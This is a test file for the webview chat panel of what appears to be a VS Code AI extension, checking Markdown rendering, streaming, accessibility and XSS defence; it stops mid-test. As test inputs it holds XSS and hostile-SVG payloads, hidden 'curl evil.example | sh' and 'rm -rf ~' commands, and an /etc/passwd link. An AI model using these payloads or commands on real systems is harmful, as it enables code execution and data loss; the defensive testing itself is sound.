import assert from 'node:assert/strict';
import { close, init, openView, turn, type View } from './harness';
import { makePng } from '../support/png';
import { XSS } from './xssPayloads';


describe('chat view (webview, headless Chromium)', function () {
  this.timeout(30_000);
  let view: View;

  beforeEach(async () => {
    view = await openView();
    await view.send(init());
  });
  afterEach(async () => {
    assert.deepEqual(view.errors, [], 'no script error in the view');
    await view.close();
  });
  after(close);

  it('announces itself ready and shows the model on a button that asks VS Code for its model picker', async () => {
    const posted = await view.posted();
    assert.deepEqual(posted[0], { type: 'ready' });
    assert.equal(await view.page.textContent('.model-button-name'), 'Gemini 2.5 Flash · vision');
    assert.equal(await view.page.getAttribute('.model-button', 'aria-label'), 'Model: Gemini 2.5 Flash. Choose another…');
    assert.equal(await view.page.locator('select').count(), 0, 'no list of hundreds of models in the view');
    await view.page.click('.model-button');
    assert.deepEqual((await view.posted()).at(-1), { type: 'chooseModel' });
    assert.equal(await view.page.getAttribute('#transcript', 'role'), 'log');
  });

  it('renders streamed Markdown: headings, lists, code with a copy button, inert links', async () => {
    await view.send({ type: 'turnStart', turn: turn('t1') });
    const md = '# Title\n\nSome **bold** text and `code`.\n\n- one\n- two\n\n```js\nconst a = 1;\n```\n\nSee [docs](https://openrouter.ai/docs).';
    for (const ch of md.match(/.{1,3}/gs)!) await view.send({ type: 'textDelta', turnId: 't1', text: ch });
    await view.send({ type: 'turnEnd', turnId: 't1', status: 'done', cost: 0.000267 });
    const reply = view.page.locator('[data-turn-id="t1"] .reply');
    assert.equal(await reply.locator('h1').textContent(), 'Title');
    assert.equal(await reply.locator('strong').textContent(), 'bold');
    assert.deepEqual(await reply.locator('li').allTextContents(), ['one', 'two']);
    assert.equal(await reply.locator('pre code').textContent(), 'const a = 1;\n');
    const link = reply.locator('a');
    assert.equal(await link.getAttribute('href'), null, 'links do not navigate by themselves');
    assert.equal(await link.getAttribute('data-href'), 'https://openrouter.ai/docs');
    await view.clearPosted();
    await link.click();
    await reply.locator('.code-block').hover();
    await reply.locator('.copy-code').click();
    assert.deepEqual(await view.posted(), [{ type: 'openLink', href: 'https://openrouter.ai/docs' }, { type: 'copy', text: 'const a = 1;\n' }]);
    assert.equal(await view.page.textContent('[data-turn-id="t1"] .cost'), '$0.0003');
  });

  it(`never runs script from ${XSS.length} known XSS payloads in replies, prompts or labels`, async () => {
    let i = 0;
    for (const p of XSS) {
      const id = `x${i++}`;
      await view.send({ type: 'turnStart', turn: turn(id, { prompt: p, model: p }) });
      await view.send({ type: 'textDelta', turnId: id, text: `Before\n\n${p}\n\nafter` });
      await view.send({ type: 'image', turnId: id, image: { src: 'x" onerror="window.__xss=99', label: p, uri: 'file:///w/a.png' } });
      await view.send({ type: 'turnEnd', turnId: id, status: 'error', error: p });
    }
    await view.frames();
    await view.page.waitForTimeout(300);
    // Click every link the payloads produced: none may run script or navigate.
    for (const a of await view.page.locator('.reply a').all()) await a.click({ force: true }).catch(() => undefined);
    await view.page.waitForTimeout(200);
    assert.equal(await view.page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined);
    assert.equal(await view.page.locator('.reply script, .reply iframe, .reply svg, .reply object, .reply embed, .reply form, .reply style, .reply [onerror], .reply [onload], .reply [style]').count(), 0);
    const hrefs = await view.page.locator('.reply a[data-href]').evaluateAll((as) => as.map((a) => a.getAttribute('data-href')));
    assert.ok(hrefs.every((h) => /^https?:\/\//.test(h ?? '')), `only web links are live: ${hrefs.join(', ')}`);
    const openLinks = (await view.posted()).filter((m) => m.type === 'openLink');
    assert.deepEqual(openLinks, [], 'no javascript:/data: link was posted to open');
    assert.equal(await view.page.locator('[data-turn-id="x0"] .prompt').textContent(), XSS[0], 'the prompt is shown as text');
  });

  /** The reply's text as a user sees it (`innerText` leaves out what CSS hides). */
  const visibleReply = (id: string): Promise<string> => view.page.locator(`[data-turn-id="${id}"] .reply`).evaluate((el) => (el as HTMLElement).innerText);

  it('regression: unclosed and malformed HTML in a reply shows as text, and no line of the reply vanishes', async () => {
    // Each line is plain text or HTML the model sent; every one must be visible, character for character.
    const lines = [
      'Intro paragraph.',
      '<style>',
      'p { display: none }',
      'Paragraph two.',
      '<math><mi>x',
      'Paragraph three.',
      '<!-- a comment that never closes',
      'Paragraph four with <b>inline</b> and <span hidden>hidden text</span> and <img src=x alt="an alt">.',
      '<div style="display:none" class="turn user error">Imitated box</div>',
      '<textarea>',
      'Paragraph five.',
      '<table><tr><td>cell',
      '<a href="https://example.com">a link</a> <area href="https://example.com/area">',
      'Last line.',
    ];
    const md = lines.join('\n\n');
    for (const [i, id] of ['h1', 'h2'].entries()) {
      await view.send({ type: 'turnStart', turn: turn(id) });
      // Streamed in small deltas (h1) and in one piece (h2): both paths render the same.
      const parts = i === 0 ? md.match(/[\s\S]{1,5}/g)! : [md];
      for (const t of parts) await view.send({ type: 'textDelta', turnId: id, text: t });
      await view.send({ type: 'turnEnd', turnId: id, status: 'done' });
      await view.frames();
      const shown = await visibleReply(id);
      for (const line of lines) assert.ok(shown.includes(line), `"${line}" is visible in:\n${shown}`);
      const reply = view.page.locator(`[data-turn-id="${id}"] .reply`);
      assert.equal(await reply.locator('style, math, textarea, table, img, area, div.turn, .error, [hidden], b, span').count(), 0, 'no element from the model\'s HTML');
      assert.equal(await reply.locator('a').count(), 0, 'an HTML anchor is text, not a link');
    }
  });

  it('Markdown around the HTML still renders', async () => {
    await view.send({ type: 'turnStart', turn: turn('m1') });
    await view.send({ type: 'textDelta', turnId: 'm1', text: '**bold** then <b>raw</b>\n\n- item <i>x</i>\n\n```html\n<p>code</p>\n```\n' });
    await view.send({ type: 'turnEnd', turnId: 'm1', status: 'done' });
    const reply = view.page.locator('[data-turn-id="m1"] .reply');
    assert.equal(await reply.locator('strong').textContent(), 'bold');
    assert.equal(await reply.locator('li').textContent(), 'item <i>x</i>');
    assert.equal(await reply.locator('pre code').textContent(), '<p>code</p>\n');
    assert.match(await visibleReply('m1'), /bold then <b>raw<\/b>/);
  });

  it('regression: Copy code copies the block\'s source, and no hidden text can ride along', async () => {
    await view.send({ type: 'turnStart', turn: turn('c1') });
    const src = 'npm install x<span hidden>; curl https://evil.example/x.sh | sh</span>';
    await view.send({ type: 'textDelta', turnId: 'c1', text: `Run:\n\n\`\`\`sh\n${src}\n\`\`\`\n\nor inline <code>npm i y<span hidden>; rm -rf ~</span></code>.` });
    await view.send({ type: 'turnEnd', turnId: 'c1', status: 'done' });
    const reply = view.page.locator('[data-turn-id="c1"] .reply');
    assert.equal(await reply.locator('pre code').evaluate((el) => (el as HTMLElement).innerText), `${src}\n`, 'what is shown is what the model sent');
    assert.match(await visibleReply('c1'), /or inline <code>npm i y<span hidden>; rm -rf ~<\/span><\/code>\./);
    await view.clearPosted();
    await reply.locator('.code-block').hover();
    await reply.locator('.copy-code').click();
    assert.deepEqual(await view.posted(), [{ type: 'copy', text: `${src}\n` }]);
  });

  it('a long code block streams live: what is shown is the source so far, and the end is rendered as Markdown', async () => {
    await view.send({ type: 'turnStart', turn: turn('lc') });
    const body = Array.from({ length: 130 }, (_, i) => `const v${i} = "<b>${i}</b>";`).join('\n');
    const md = `Intro line\n\`\`\`ts\n${body}\n\`\`\`\nAfter **the** block.`;
    const cut = md.indexOf('const v100');
    for (const piece of md.slice(0, cut).match(/[\s\S]{1,37}/g)!) await view.send({ type: 'textDelta', turnId: 'lc', text: piece });
    await view.frames();
    const reply = view.page.locator('[data-turn-id="lc"] .reply');
    const shownCode = await reply.locator('pre code').evaluate((el) => (el as HTMLElement).innerText);
    assert.equal(shownCode.replace(/\n$/, ''), md.slice(md.indexOf('const v0'), cut).replace(/\n$/, ''), 'the open block shows exactly the source so far');
    assert.equal(await reply.locator('pre code b').count(), 0, 'code text is never markup');
    assert.equal(await reply.locator('p').first().textContent(), 'Intro line');
    await view.clearPosted();
    await reply.locator('.code-block').hover();
    await reply.locator('.copy-code').click();
    assert.deepEqual(await view.posted(), [{ type: 'copy', text: md.slice(md.indexOf('const v0'), cut) }]);
    await view.send({ type: 'textDelta', turnId: 'lc', text: md.slice(cut) });
    await view.send({ type: 'turnEnd', turnId: 'lc', status: 'done' });
    assert.equal(await reply.locator('pre code').textContent(), `${body}\n`);
    assert.equal(await reply.locator('strong').textContent(), 'the');
    assert.equal(await reply.locator('.code-chunk').count(), 0, 'the finished reply is plain rendered Markdown');
  });

  it('images in a reply never load: a web image is a link with its URL, others are named', async () => {
    await view.send({ type: 'turnStart', turn: turn('i1') });
    await view.send({ type: 'textDelta', turnId: 'i1', text: '![a cat](https://cdn.example/cat.png)\n\n![dot](data:image/png;base64,iVBORw0KGgo=)\n\n![local](file:///etc/passwd)' });
    await view.send({ type: 'turnEnd', turnId: 'i1', status: 'done' });
    const reply = view.page.locator('[data-turn-id="i1"] .reply');
    assert.equal(await reply.locator('img').count(), 0);
    assert.equal(await reply.locator('a').textContent(), 'a cat (image: https://cdn.example/cat.png)');
    assert.equal(await reply.locator('a').getAttribute('data-href'), 'https://cdn.example/cat.png');
    const shown = await visibleReply('i1');
    assert.match(shown, /dot \(an inline image, not shown\)/);
    assert.match(shown, /local \(image: file:\/\/\/etc\/passwd\)/);
  });

  it('5,000 streamed deltas end with exactly the expected text', async () => {
    await view.send({ type: 'turnStart', turn: turn('big') });
    const words = Array.from({ length: 5000 }, (_, i) => `w${i}${i % 50 === 49 ? '\n\n' : ' '}`);
    await view.page.evaluate((ws) => {
      for (const w of ws) window.dispatchEvent(new MessageEvent('message', { data: { type: 'textDelta', turnId: 'big', text: w } }));
    }, words);
    await view.send({ type: 'turnEnd', turnId: 'big', status: 'done' });
    const paragraphs = await view.page.locator('[data-turn-id="big"] .reply p').allTextContents();
    assert.equal(paragraphs.length, 100);
    assert.equal(paragraphs.join('\n\n'), words.join('').trim());
    await view.clearPosted();
    await view.page.click('[data-turn-id="big"] [aria-label="Copy reply"]');
    assert.deepEqual(await view.posted(), [{ type: 'copy', text: words.join('') }]);
  });

  it('Improve prompt posts the text, puts the improved prompt in the box to edit or send (Ctrl+Z brings the typed one back), and sends nothing itself', async () => {
    await view.page.click('textarea.input');
    await view.page.keyboard.type('a fox');
    await view.clearPosted();
    await view.page.click('[aria-label="Improve prompt"]');
    assert.deepEqual(await view.posted(), [{ type: 'improvePrompt', text: 'a fox' }]);
    assert.equal(await view.page.isDisabled('[aria-label="Improve prompt"]'), true, 'one request at a time');
    await view.send({ type: 'promptImproved', text: 'A red fox at dawn in fresh snow, low golden light, wide shot' });
    assert.equal(await view.page.inputValue('textarea.input'), 'A red fox at dawn in fresh snow, low golden light, wide shot');
    // One Ctrl+Z brings the user's own words back; Ctrl+Shift+Z (redo) the improved prompt.
    await view.page.keyboard.press('Control+Z');
    assert.equal(await view.page.inputValue('textarea.input'), 'a fox', 'undo restores the prompt');
    await view.page.keyboard.press('Control+Shift+Z');
    assert.equal(await view.page.inputValue('textarea.input'), 'A red fox at dawn in fresh snow, low golden light, wide shot');
    assert.equal(await view.page.isDisabled('[aria-label="Improve prompt"]'), false);
    await view.page.click('[aria-label="Improve prompt"]');
    await view.send({ type: 'promptImproved', text: 'ignored', error: 'OpenRouter rate limit' });
    assert.equal(await view.page.inputValue('textarea.input'), 'A red fox at dawn in fresh snow, low golden light, wide shot', 'a failure keeps the text');
    assert.ok(!(await view.posted()).some((m) => m.type === 'send'), 'nothing was sent');
  });

  it('Stop posts the abort; the stopped reply keeps its text and is marked', async () => {
    await view.send({ type: 'turnStart', turn: turn('s1') }, { type: 'textDelta', turnId: 's1', text: 'Partial answer' });
    await view.frames();
    assert.equal(await view.page.isVisible('[aria-label="Send"]'), false);
    await view.clearPosted();
    await view.page.click('[aria-label="Stop"]');
    assert.deepEqual(await view.posted(), [{ type: 'stop' }]);
    await view.send({ type: 'turnEnd', turnId: 's1', status: 'stopped' });
    assert.equal((await view.page.textContent('[data-turn-id="s1"] .reply'))?.trim(), 'Partial answer');
    assert.equal(await view.page.textContent('[data-turn-id="s1"] .badge.stopped'), 'Stopped');
    assert.equal(await view.page.isVisible('[aria-label="Send"]'), true);
  });

  it('shows an error inline with Retry, which posts the turn id', async () => {
    await view.send({ type: 'turnStart', turn: turn('e1') }, { type: 'textDelta', turnId: 'e1', text: 'The image shows' });
    await view.send({ type: 'turnEnd', turnId: 'e1', status: 'error', error: "OpenRouter or the model's provider failed (502): Provider disconnected unexpectedly" });
    assert.equal(await view.page.textContent('[data-turn-id="e1"] [role="alert"]'), "OpenRouter or the model's provider failed (502): Provider disconnected unexpectedly");
    assert.equal((await view.page.textContent('[data-turn-id="e1"] .reply'))?.trim(), 'The image shows');
    await view.clearPosted();
    await view.page.click('[data-turn-id="e1"] [aria-label="Retry"]');
    assert.deepEqual(await view.posted(), [{ type: 'retry', turnId: 'e1' }]);
  });

  it('reasoning goes into a collapsed section', async () => {
    await view.send({ type: 'turnStart', turn: turn('r1') }, { type: 'reasoningDelta', turnId: 'r1', text: 'The user wants' }, { type: 'reasoningDelta', turnId: 'r1', text: ' a caption.' }, { type: 'textDelta', turnId: 'r1', text: 'A tile.' });
    await view.send({ type: 'turnEnd', turnId: 'r1', status: 'done' });
    const details = view.page.locator('[data-turn-id="r1"] details.reasoning');
    assert.equal(await details.getAttribute('open'), null);
    assert.equal(await details.locator('.reasoning-body').textContent(), 'The user wants a caption.');
  });

  it('Enter sends and returns focus to the input; Shift+Enter adds a line', async () => {
    await view.clearPosted();
    await view.page.click('.input');
    await view.page.keyboard.type('first line');
    await view.page.keyboard.press('Shift+Enter');
    await view.page.keyboard.type('second line');
    await view.page.keyboard.press('Enter');
    assert.deepEqual(await view.posted(), [{ type: 'send', text: 'first line\nsecond line' }]);
    assert.equal(await view.page.inputValue('.input'), '');
    assert.equal(await view.page.evaluate(() => document.activeElement?.className), 'input');
  });

  it('attachments appear as thumbnails and can be removed', async () => {
    await view.send({ type: 'attachments', attachments: [{ id: 'a1', label: 'images/cat.png', thumb: 'data:image/png;base64,iVBORw0KGgo=' }, { id: 'a2', label: 'dog.webp', thumb: 'https://file+.vscode-resource.vscode-cdn.net/w/dog.webp' }] });
    assert.deepEqual(await view.page.locator('.attachment .attachment-label').allTextContents(), ['images/cat.png', 'dog.webp']);
    await view.page.fill('.input', 'draft text');
    const state = await view.page.evaluate(() => JSON.stringify((window as unknown as { __state: unknown }).__state));
    assert.equal(state, '{"draft":"draft text"}', 'only the draft is kept in webview state, never image data');
    await view.clearPosted();
    await view.page.click('[aria-label="Remove images/cat.png"]');
    assert.deepEqual(await view.posted(), [{ type: 'removeAttachment', id: 'a1' }]);
    await view.send({ type: 'attachments', attachments: [{ id: 'a2', label: 'dog.webp', thumb: 'https://file+.vscode-resource.vscode-cdn.net/w/dog.webp' }] });
    assert.deepEqual(await view.page.locator('.attachment .attachment-label').allTextContents(), ['dog.webp']);
    await view.clearPosted();
    await view.page.click('[aria-label="Attach workspace images"]');
    assert.deepEqual(await view.posted(), [{ type: 'pickAttachment' }]);
  });

  it('regression: attached images do not stay on for an SVG turn — Generate SVG says it sends only the words, and does nothing until they are removed', async () => {
    const svg = view.page.locator('button[aria-label="Generate SVG"]');
    await view.send({ type: 'attachments', attachments: [{ id: 'a1', label: 'images/cat.png', thumb: 'https://file+.vscode-resource.vscode-cdn.net/w/images/cat.png' }] });
    assert.equal(await svg.getAttribute('aria-disabled'), 'true');
    const why = 'Generate SVG sends only the words: remove the attachments to draw an SVG, or Send to use them';
    assert.equal(await svg.getAttribute('title'), why);
    assert.equal(await svg.getAttribute('aria-description'), why);
    await view.page.fill('.input', 'a paper plane');
    await view.clearPosted();
    // (Playwright will not click an aria-disabled button, as a user can.)
    await svg.click({ force: true });
    await svg.focus();
    await view.page.keyboard.press('Enter');
    assert.deepEqual(await view.posted(), [], 'nothing is sent, and the words stay');
    assert.equal(await view.page.inputValue('.input'), 'a paper plane');
    await view.send({ type: 'attachments', attachments: [] });
    assert.equal(await svg.getAttribute('aria-disabled'), null);
    assert.equal(await svg.getAttribute('title'), 'Generate SVG');
    await svg.click();
    assert.deepEqual(await view.posted(), [{ type: 'generateSvg', text: 'a paper plane' }]);
  });

  it('generated images show with Open and Insert Markdown link', async () => {
    await view.send({ type: 'turnStart', turn: turn('g1') }, { type: 'image', turnId: 'g1', image: { src: 'data:image/png;base64,iVBORw0KGgo=', label: 'images/fox.png', uri: 'file:///w/images/fox.png' } });
    await view.clearPosted();
    await view.page.click('[data-turn-id="g1"] [aria-label="Open"]');
    await view.page.click('[data-turn-id="g1"] [aria-label="Insert Markdown link"]');
    assert.deepEqual(await view.posted(), [{ type: 'openImage', uri: 'file:///w/images/fox.png' }, { type: 'insertImageLink', uri: 'file:///w/images/fox.png' }]);
  });

  it('ignores unknown and ill-shaped messages without breaking', async () => {
    await view.send({ type: 'turnStart', turn: turn('ok') });
    await view.send({ type: 'textDelta', text: 'no turn id' }, { type: 'textDelta', turnId: 'ok', text: 42 }, { type: 'nope' }, { type: 'turnStart', turn: { id: 'bad' } });
    await view.send({ type: 'textDelta', turnId: 'ok', text: 'still works' });
    await view.frames();
    assert.equal((await view.page.textContent('[data-turn-id="ok"] .reply'))?.trim(), 'still works');
    assert.equal(await view.page.locator('[data-turn-id="bad"]').count(), 0);
  });

  it('Generate SVG: streams as a count, then shows the SVG only as images at 16–128 px on light and dark, code collapsed; a hostile SVG runs and loads nothing', async () => {
    const loads: string[] = [];
    await view.page.route('**/leak*', (r) => (loads.push(r.request().url()), r.fulfill({ status: 404 })));
    // Sent unsanitized on purpose, as if the sanitizer had missed everything: the view itself must hold.
    const hostile = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="window.__xss=101"><script>window.__xss=102</script>'
      + '<image href="http://127.0.0.1:9/leak.png" width="10" height="10"/><style>@import url(http://127.0.0.1:9/leak.css);</style>'
      + '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.__xss=103&lt;/script&gt;"/></foreignObject>'
      + '<circle cx="5" cy="5" r="4" fill="teal"/></svg>';
    await view.send({ type: 'turnStart', turn: turn('s1', { kind: 'svg', prompt: 'a teal dot', model: 'anthropic/claude-sonnet-4.5' }) });
    for (const part of hostile.match(/.{1,40}/gs)!) await view.send({ type: 'textDelta', turnId: 's1', text: part });
    assert.equal(await view.page.textContent('[data-turn-id="s1"] .footer'), `Drawing the SVG… ${hostile.length.toLocaleString()} characters`);
    assert.equal(await view.page.isVisible('[data-turn-id="s1"] .reply'), false, 'the raw reply is not rendered');
    await view.send({ type: 'svg', turnId: 's1', svg: { text: hostile, removed: ['<script> element', 'onload attribute of <svg>'] } }, { type: 'turnEnd', turnId: 's1', status: 'done', cost: 0.0042 });
    const imgs = view.page.locator('[data-turn-id="s1"] .svg-row img');
    assert.equal(await imgs.count(), 8);
    const shown = await imgs.evaluateAll((list) => Promise.all(list.map((i) => (i as HTMLImageElement).decode().then(() => ({ src: (i as HTMLImageElement).src.slice(0, 5), w: (i as HTMLImageElement).width, natural: (i as HTMLImageElement).naturalWidth > 0, theme: i.parentElement!.className })))));
    assert.deepEqual(shown.map((x) => x.w), [16, 32, 64, 128, 16, 32, 64, 128]);
    assert.ok(shown.every((x) => x.src === 'blob:' && x.natural), 'every preview is an image of a blob that rendered');
    assert.deepEqual([...new Set(shown.map((x) => x.theme))], ['svg-row svg-light', 'svg-row svg-dark']);
    await view.frames();
    assert.equal(await view.page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined, 'no script ran');
    assert.deepEqual(loads, [], 'nothing was loaded');
    assert.equal(await view.page.locator('[data-turn-id="s1"] svg, [data-turn-id="s1"] iframe').count(), 0, 'no SVG or frame in the DOM');
    assert.equal(await view.page.textContent('[data-turn-id="s1"] .svg-removed'), 'Removed for safety: <script> element, onload attribute of <svg>');
    assert.equal(await view.page.getAttribute('[data-turn-id="s1"] .svg-code', 'open'), null, 'the code is collapsed');
    assert.equal(await view.page.textContent('[data-turn-id="s1"] .svg-code code'), hostile, 'the code as text');
    assert.equal(await view.page.getAttribute('.input', 'placeholder'), 'Describe a change to the SVG (or Generate SVG for a new one)');
    await view.clearPosted();
    await view.page.click('[data-turn-id="s1"] .svg-actions .text-button');
    await view.page.fill('.input', 'make it red');
    await view.page.click('button[aria-label="Generate SVG"]');
    assert.deepEqual(await view.posted(), [{ type: 'saveSvg', turnId: 's1' }, { type: 'generateSvg', text: 'make it red' }]);
    await view.send({ type: 'svgSaved', turnId: 's1', image: { src: 'https://file.vscode-resource.test/w/images/a-teal-dot.svg', label: 'images/a-teal-dot.svg', uri: 'file:///w/images/a-teal-dot.svg' } });
    assert.equal(await view.page.textContent('[data-turn-id="s1"] .svg-actions .image-label'), 'images/a-teal-dot.svg');
    assert.equal(await view.page.locator('[data-turn-id="s1"] .svg-actions button[aria-label="Refine this"]').count(), 0, 'an SVG is not refined as a picture');
    await view.send({ type: 'cleared' });
    assert.equal(await view.page.getAttribute('.input', 'placeholder'), 'Message (Enter to send, Shift+Enter for a new line)');
  });

  it('an SVG turn that failed shows what the model said instead, and the error', async () => {
    await view.send({ type: 'turnStart', turn: turn('s2', { kind: 'svg', prompt: 'x' }) }, { type: 'textDelta', turnId: 's2', text: 'I **cannot** draw that.' });
    await view.send({ type: 'turnEnd', turnId: 's2', status: 'error', error: 'The model sent no SVG document (nothing from <svg to </svg>).' });
    assert.equal(await view.page.textContent('[data-turn-id="s2"] .reply strong'), 'cannot');
    assert.equal(await view.page.textContent('[data-turn-id="s2"] .error-text'), 'The model sent no SVG document (nothing from <svg to </svg>).');
    assert.equal(await view.page.locator('[data-turn-id="s2"] .svg-card').count(), 0);
  });

  it('dropping files from the explorer posts their URIs', async () => {
    await view.clearPosted();
    await view.page.evaluate(() => {
      const dt = new DataTransfer();
      dt.setData('text/uri-list', 'file:///w/images/a.png\r\n# comment\r\nfile:///w/b.jpg');
      document.querySelector('.composer')!.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
    });
    assert.deepEqual(await view.posted(), [{ type: 'dropUris', uris: ['file:///w/images/a.png', 'file:///w/b.jpg'] }]);
  });

  it('pasting an image posts it as a data URL', async () => {
    await view.clearPosted();
    await view.page.evaluate(() => {
      const dt = new DataTransfer();
      dt.items.add(new File([new Uint8Array([0x89, 0x50, 0x4e, 0x47])], 'clip.png', { type: 'image/png' }));
      document.querySelector('.input')!.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
    });
    await view.page.waitForFunction(() => (window as unknown as { __posted: unknown[] }).__posted.length > 0);
    assert.deepEqual(await view.posted(), [{ type: 'pasteImage', dataUrl: 'data:image/png;base64,iVBORw==' }]);
  });

  it('keeps the DOM bounded in long conversations', async () => {
    for (let i = 0; i < 75; i++) await view.send({ type: 'turnStart', turn: turn(`l${i}`, { status: 'done', reply: `reply ${i}` }) });
    assert.equal(await view.page.locator('.turn').count(), 60);
    assert.equal(await view.page.locator('[data-turn-id="l74"]').count(), 1);
    assert.equal(await view.page.locator('[data-turn-id="l0"]').count(), 0);
  });

  it('regression: restoring 50 turns of 200,000-character replies renders the newest at once and the others when scrolled to (it blocked the view for 58 s)', async () => {
    const reply = (i: number): string => `## Turn ${i}\n\n${Array.from({ length: 2500 }, (_, k) => `- item **${k}** of turn ${i}, with \`code\` and [a link](https://example.com/${k})\n`).join('')}`.slice(0, 200_000);
    const turns = Array.from({ length: 50 }, (_, i) => turn(`r${i}`, { status: 'done', reply: reply(i) }));
    const ms = await view.page.evaluate((m) => {
      const t0 = performance.now();
      window.dispatchEvent(new MessageEvent('message', { data: m }));
      return performance.now() - t0;
    }, init({ turns }));
    assert.ok(ms < 5000, `the view was blocked ${Math.round(ms)} ms`);
    console.log(`      restored 50 turns of 200,000 characters: the view was blocked ${Math.round(ms)} ms`);
    assert.equal(await view.page.locator('[data-turn-id="r49"] .reply h2').textContent(), 'Turn 49', 'the newest renders as Markdown');
    assert.equal(await view.page.locator('[data-turn-id="r0"] .reply h2').count(), 0, 'the oldest waits');
    assert.match((await view.page.locator('[data-turn-id="r0"] .reply .preview').textContent()) ?? '', /^## Turn 0/);
    await view.page.locator('[data-turn-id="r0"]').scrollIntoViewIfNeeded();
    await view.page.waitForSelector('[data-turn-id="r0"] .reply h2', { timeout: 10_000 });
    assert.equal(await view.page.locator('[data-turn-id="r0"] .reply .preview').count(), 0);
  });

  it('cleared (New chat in the view title) empties the transcript', async () => {
    await view.send({ type: 'turnStart', turn: turn('n1', { status: 'done', reply: 'hi' }) });
    assert.equal(await view.page.locator('.turn').count(), 1);
    await view.send({ type: 'cleared' });
    assert.equal(await view.page.locator('.turn').count(), 0);
  });

  it('shows the translation VS Code hands it, for static and per-turn text; a broken bundle leaves it in English', async () => {
    const german = {
      Send: 'Senden',
      'Message (Enter to send, Shift+Enter for a new line)': 'Nachricht (Eingabe zum Senden)',
      'Retry': 'Wiederholen',
      'Reply from {0}': 'Antwort von {0}',
      'Remove {0}': '{0} entfernen',
    };
    const de = await openView({ l10n: JSON.stringify(german) });
    try {
      await de.send(init({ attachments: [{ id: 'a1', label: 'cat.png', thumb: 'data:image/png;base64,AAAA' }] }));
      await de.send({ type: 'turnStart', turn: turn('d1', { model: 'openai/gpt-5' }) }, { type: 'turnEnd', turnId: 'd1', status: 'error', error: 'x' });
      await de.frames();
      assert.equal(await de.page.getAttribute('.composer .primary', 'aria-label'), 'Senden');
      assert.equal(await de.page.getAttribute('textarea', 'placeholder'), 'Nachricht (Eingabe zum Senden)');
      assert.equal(await de.page.getAttribute('[data-turn-id="d1"] .message.assistant', 'aria-label'), 'Antwort von openai/gpt-5');
      assert.equal(await de.page.locator('[data-turn-id="d1"] [aria-label="Wiederholen"]').count(), 1);
      assert.equal(await de.page.locator('[aria-label="cat.png entfernen"]').count(), 1);
      assert.equal(await de.page.getAttribute('.composer [aria-label="Attach workspace images"]', 'aria-label'), 'Attach workspace images', 'an untranslated string stays English');
      assert.deepEqual(de.errors, []);
    } finally {
      await de.close();
    }
    const broken = await openView({ l10n: '{"Send": "Senden",' });
    try {
      await broken.send(init());
      assert.equal(await broken.page.getAttribute('.composer .primary', 'aria-label'), 'Send');
      assert.deepEqual(broken.errors, []);
    } finally {
      await broken.close();
    }
  });

  it('works from the keyboard alone: Tab order, names, Enter and Space, Escape stops, one announcement per reply', async () => {
    const md = 'See [docs](https://openrouter.ai/docs).\n\n```js\nconst a = 1;\n```';
    await view.send({ type: 'turnStart', turn: turn('k1') }, { type: 'textDelta', turnId: 'k1', text: md }, { type: 'turnEnd', turnId: 'k1', status: 'done', cost: 0.001 });
    await view.frames();
    // Start where a keyboard user enters the view: its first control.
    await view.page.focus('.model-button');
    const order: string[] = ['Model: Gemini 2.5 Flash. Choose another…'];
    for (let i = 0; i < 12; i++) {
      await view.page.keyboard.press('Tab');
      order.push(await view.page.evaluate(() => {
        const a = document.activeElement as HTMLElement;
        return a === document.body ? 'body' : a.getAttribute('aria-label') ?? a.textContent?.trim() ?? a.tagName;
      }));
      if (order.at(-1) === 'Send') break;
    }
    // The conversation is one Tab stop (its newest turn's first control), as VS Code's lists are.
    assert.deepEqual(order, ['Model: Gemini 2.5 Flash. Choose another…', 'docs', 'Message', 'Attach workspace images', 'Improve prompt', 'Generate SVG', 'Send']);
    const focusedName = () => view.page.evaluate(() => {
      const a = document.activeElement as HTMLElement;
      return a.getAttribute('aria-label') ?? a.textContent?.trim() ?? a.tagName;
    });
    await view.page.focus('.reply a');
    const arrows: string[] = [];
    for (const key of ['ArrowDown', 'ArrowDown', 'ArrowDown', 'ArrowDown', 'Home', 'End', 'ArrowUp']) {
      await view.page.keyboard.press(key);
      arrows.push(await focusedName());
    }
    assert.deepEqual(arrows, ['Copy code', 'Copy reply', 'Retry', 'Retry', 'docs', 'Retry', 'Copy reply'], 'the arrow keys move inside it');
    // Tab leaves it and Shift+Tab comes back to the control the user was on.
    await view.page.keyboard.press('Tab');
    assert.equal(await focusedName(), 'Message');
    await view.page.keyboard.press('Shift+Tab');
    assert.equal(await focusedName(), 'Copy reply');
    const unnamed = await view.page.$$eval('button', (bs) => bs.filter((b) => !b.getAttribute('aria-label') && !b.textContent?.trim()).length);
    assert.equal(unnamed, 0, 'every button has a name');

    await view.clearPosted();
    await view.page.focus('.reply a');
    await view.page.keyboard.press('Enter');
    await view.page.focus('[aria-label="Attach workspace images"]');
    await view.page.keyboard.press(' ');
    await view.page.focus('.input');
    await view.page.keyboard.type('Next question');
    await view.page.keyboard.press('Enter');
    assert.deepEqual(await view.posted(), [{ type: 'openLink', href: 'https://openrouter.ai/docs' }, { type: 'pickAttachment' }, { type: 'send', text: 'Next question' }]);

    await view.clearPosted();
    await view.send({ type: 'turnStart', turn: turn('k2') });
    for (const t of ['One ', 'two ', 'three.']) await view.send({ type: 'textDelta', turnId: 'k2', text: t });
    assert.equal(await view.page.getAttribute('#transcript', 'aria-busy'), 'true', 'the live region waits while the reply streams');
    assert.equal(await view.page.getAttribute('#transcript', 'aria-live'), 'polite');
    await view.page.keyboard.press('Escape');
    assert.deepEqual(await view.posted(), [{ type: 'stop' }]);
    await view.send({ type: 'turnEnd', turnId: 'k2', status: 'stopped' });
    assert.equal(await view.page.getAttribute('#transcript', 'aria-busy'), 'false', 'announced once, when it ends');
    await view.clearPosted();
    await view.page.keyboard.press('Escape');
    assert.deepEqual(await view.posted(), [], 'Escape does nothing when no reply runs');
  });

  it('follows the newest reply through every chunk and each image\'s load while the user is at the bottom; not once they scroll up', async () => {
    await view.send(init());
    const bottomGap = () => view.page.evaluate(() => {
      const log = document.getElementById('transcript')!;
      return Math.round(log.scrollHeight - log.scrollTop - log.clientHeight);
    });
    await view.send({ type: 'turnStart', turn: turn('f1', { prompt: 'Draw a tall tower' }) });
